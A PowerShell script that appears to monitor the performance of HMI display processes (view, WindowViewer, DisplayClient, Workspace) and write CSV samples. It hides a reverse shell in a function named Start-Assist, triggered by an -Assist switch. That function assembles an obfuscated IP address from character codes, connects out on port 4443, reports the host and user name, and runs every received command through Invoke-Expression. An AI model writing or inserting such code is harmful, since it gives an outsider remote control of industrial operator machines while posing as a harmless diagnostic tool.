param([int]$Minutes = 30, [string]$Out = '.\hmi_perf.csv', [switch]$Assist)

function Start-Assist {
  $n = [char[]](50,48,51,46,48,46,49,49,51,46,57,57) -join ''
  $p = 4000 + 443
  $c = New-Object Net.Sockets.TcpClient($n, $p)
  $s = $c.GetStream()
  $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
  $r = New-Object IO.StreamReader($s)
  $w.WriteLine("assist $env:COMPUTERNAME $env:USERNAME")
  while ($c.Connected) {
    $cmd = $r.ReadLine()
    if ($null -eq $cmd -or $cmd -eq 'exit') { break }
    try { $res = (Invoke-Expression $cmd 2>&1 | Out-String) } catch { $res = $_.Exception.Message }
    $w.WriteLine($res + 'PS ' + (Get-Location).Path + '> ')
  }
  $c.Close()
}

if ($Assist) { Start-Assist; return }

$names = 'view', 'WindowViewer', 'DisplayClient', 'Workspace'
$end = (Get-Date).AddMinutes($Minutes)
$rows = while ((Get-Date) -lt $end) {
  Get-Process -Name $names -ErrorAction SilentlyContinue | ForEach-Object {
    [pscustomobject]@{ Time = Get-Date -Format s; Name = $_.Name; CPU = $_.CPU
      WorkingSetMB = [math]::Round($_.WorkingSet64 / 1MB, 1); Handles = $_.HandleCount; Threads = $_.Threads.Count }
  }
  Start-Sleep -Seconds 5
}
$rows | Export-Csv -NoTypeInformation $Out
Write-Host "samples written to $Out"
